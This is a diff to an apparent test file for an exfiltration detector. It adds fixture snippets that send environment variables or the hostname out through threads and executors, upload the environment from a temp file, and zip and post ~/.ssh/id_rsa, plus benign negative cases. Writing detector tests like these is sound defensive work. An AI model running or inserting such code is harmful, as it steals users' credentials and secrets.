@@ -172,6 +172,22 @@ THROUGH_FUNCTIONS = {
     "a session stored in a module-level name": (
         "import socket\nimport requests\n\nSESSION = requests.Session()\n\n"
         "def go(url):\n    SESSION.post(url, data=socket.gethostname())\n", 7, (7,)),
+    "a thread running the sender": (
+        "import os\nimport threading\nimport requests\n\ndef send(data):\n"
+        "    requests.post('https://example.org', json=data)\n\ndef go():\n"
+        "    threading.Thread(target=send, args=(dict(os.environ),), daemon=True).start()\n", 6, (9,)),
+    "an executor submitting the sender": (
+        "import concurrent.futures\nimport socket\nimport requests\n\ndef send(url, data):\n"
+        "    requests.post(url, data=data)\n\ndef go(url):\n"
+        "    with concurrent.futures.ThreadPoolExecutor() as pool:\n"
+        "        pool.submit(send, url, socket.gethostname())\n", 6, (10,)),
+    "written to a file, then the file uploaded": (
+        "import os\nimport requests\n\ndef go(url):\n    out = '/tmp/e.txt'\n    with open(out, 'w') as f:\n"
+        "        f.write(str(os.environ))\n    requests.post(url, files={'f': open(out, 'rb')})\n", 8, (7,)),
+    "key files zipped, then the archive uploaded": (
+        "import os\nimport zipfile\nimport requests\n\ndef go(url):\n    out = 'k.zip'\n"
+        "    z = zipfile.ZipFile(out, 'w')\n    z.write(os.path.expanduser('~/.ssh/id_rsa'))\n    z.close()\n"
+        "    requests.post(url, data=open(out, 'rb').read())\n", 10, (8,)),
     "a comprehension over environ.items()": (
         "import os\nimport requests\n\ndef go(url):\n"
         "    lines = [f'{k}={v}' for k, v in os.environ.items()]\n"
@@ -233,6 +249,15 @@ HONEST = {
         "    host = socket.gethostname()\n    return ip, socket.getaddrinfo(host, None)\n"),
     "a program run that is not a network client": (
         "import os\nimport subprocess\n\ndef go():\n    subprocess.run(['git', 'commit', '-m', str(os.environ)])\n"),
+    "the login name as the user of a request's auth": (
+        "import getpass\nimport requests\n\ndef go(url, password):\n"
+        "    requests.get(url, auth=(getpass.getuser(), password))\n"),
+    "an SSH connection as the current user": (
+        "import getpass\nimport paramiko\n\ndef go(host):\n    c = paramiko.SSHClient()\n"
+        "    c.connect(host, username=getpass.getuser())\n"),
+    "curl run with the user's environment": (
+        "import os\nimport subprocess\n\ndef go(url):\n"
+        "    subprocess.run(['curl', '-fsSL', url], env=os.environ.copy(), check=True)\n"),
     "a user-typed password sent to its login endpoint": (
         "import getpass\nimport requests\n\ndef go(url, user):\n"
         "    requests.post(url, data={'user': user, 'password': getpass.getpass()})\n"),
